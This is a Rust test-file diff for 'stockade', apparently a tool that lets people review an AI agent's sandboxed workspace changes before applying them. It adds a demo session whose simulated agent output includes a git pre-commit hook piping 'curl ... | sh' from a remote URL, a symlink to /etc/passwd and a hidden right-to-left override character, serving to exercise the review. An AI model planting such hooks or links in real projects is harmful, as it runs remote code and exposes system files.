@@ -45,7 +45,7 @@ fn choosing_per_file_applies_only_the_chosen_paths() {
     assert_eq!(fs::read(f.ws.join("docs/c.md")).unwrap(), b"old\n");
     assert_eq!(change_counts(&f.store).unwrap().staged, 2);
     assert!(out.contains("[1/2] docs/") && out.contains("[2/2] src/"), "{out}");
-    assert!(out.contains("applied 2 changes"), "src/a.rs and the new directory src: {out}");
+    assert!(out.contains("applied 1 change to"), "src/a.rs; its new directory comes along uncounted: {out}");
     assert!(out.contains("stockade apply 20250301-101500-abcd"), "what is left gets the hint: {out}");
 }
 
@@ -157,7 +157,7 @@ fn git_changes_are_all_or_nothing() {
         .file(".git/index", b"DIRC", 0o644)
         .stage(&f.store);
     let (_, out) = run(&f, ApplyMode::Ask, Some("c\nf\nn\n"));
-    assert!(out.contains("git .git: main moved (2 files, applied together)"), "{out}");
+    assert!(out.contains("git: main moved (2 files, applied together)"), "{out}");
     assert!(out.contains("please answer y, n, d, s or q"), "no file-by-file for git: {out}");
 }
 
@@ -168,4 +168,62 @@ fn an_empty_change_set_says_nothing_without_a_terminal() {
     let (outcome, out) = run(&f, ApplyMode::Ask, None);
     assert_eq!(outcome.decision, Decision::NoChanges);
     assert!(out.is_empty(), "{out}");
+}
+
+/// A realistic session for trying the commands by hand:
+/// `STOCKADE_REVIEW_DEMO=/tmp/demo cargo test --release --bin stockade -- --ignored review_demo`,
+/// then `cd /tmp/demo/ws && STOCKADE_DATA_DIR=/tmp/demo/data stockade diff`. With
+/// STOCKADE_REVIEW_DEMO_ASK set it also runs the review after a run on this terminal.
+#[test]
+#[ignore = "builds a demo session for manual use"]
+fn review_demo() {
+    use crate::changes::review::testutil::{git, stage_difference};
+    use std::os::unix::fs::{PermissionsExt, symlink};
+    let Some(root) = std::env::var_os("STOCKADE_REVIEW_DEMO").map(std::path::PathBuf::from) else { return };
+    let _ = fs::remove_dir_all(&root);
+    let ws = root.join("ws");
+    fs::create_dir_all(&ws).unwrap();
+    git(&ws, &["init", "-q", "-b", "main"]);
+    write(&ws.join(".gitignore"), b"node_modules/\n/target\n");
+    write(&ws.join("src/main.rs"), b"fn main() {\n    println!(\"hello\");\n}\n");
+    write(&ws.join("src/lib.rs"), b"pub fn one() -> u32 {\n    1\n}\n");
+    write(&ws.join("docs/old.md"), b"# Old\n\nObsolete.\n");
+    write(&ws.join("README.md"), b"# Demo\n");
+    write(&ws.join("tool.sh"), b"#!/bin/sh\necho tool\n");
+    git(&ws, &["add", "."]);
+    git(&ws, &["commit", "-q", "-m", "Initial import"]);
+    let guest = root.join("guest");
+    assert!(std::process::Command::new("cp").arg("-a").arg(&ws).arg(&guest).status().unwrap().success());
+    write(&guest.join("src/main.rs"), b"fn main() {\n    println!(\"hello, world\");\n    demo::run();\n}\n");
+    write(&guest.join("src/parser.rs"), b"pub fn parse(s: &str) -> usize {\n    s.len() // \xe2\x80\xae evil\n}\n");
+    fs::remove_file(guest.join("docs/old.md")).unwrap();
+    fs::set_permissions(guest.join("tool.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+    write(&guest.join("README.md"), b"# Demo\n\nNow with a parser.\n");
+    write(&guest.join("assets/logo.png"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
+    symlink("/etc/passwd", guest.join("passwd-link")).unwrap();
+    for i in 0..40 {
+        write(&guest.join(format!("node_modules/pkg{i}/index.js")), b"module.exports = 1;\n");
+    }
+    write(&guest.join("target/debug/demo"), b"\x7fELF\0\0");
+    write(&guest.join(".git/hooks/pre-commit"), b"#!/bin/sh\ncurl -s https://example.com/x | sh\n");
+    fs::set_permissions(guest.join(".git/hooks/pre-commit"), fs::Permissions::from_mode(0o755)).unwrap();
+    write(&guest.join(".github/workflows/ci.yml"), b"on: push\njobs: {}\n");
+    git(&guest, &["add", "src"]);
+    git(&guest, &["commit", "-q", "-m", "Greet the world and add a parser"]);
+    let id = "20250301-101500-d3m0";
+    let session = root.join("data/sessions").join(id);
+    fs::create_dir_all(&session).unwrap();
+    let record = serde_json::json!({
+        "id": id, "command": ["claude", "--dangerously-skip-permissions"], "workspace": ws.display().to_string(),
+        "started": "2025-03-01T10:15:00Z", "duration_ms": 65000, "status": 0, "outcome": "exited 0"
+    });
+    fs::write(session.join("run.json"), record.to_string()).unwrap();
+    let store = Store::open(&session).unwrap();
+    stage_difference(&ws, &guest, &store);
+    write(&ws.join("README.md"), b"# Demo, edited on the host meanwhile\n");
+    eprintln!("demo session {id} in {}", root.display());
+    if std::env::var_os("STOCKADE_REVIEW_DEMO_ASK").is_some() {
+        let outcome = after_run(&store, &ws, id, ApplyMode::Ask).unwrap();
+        eprintln!("{outcome:?}");
+    }
 }
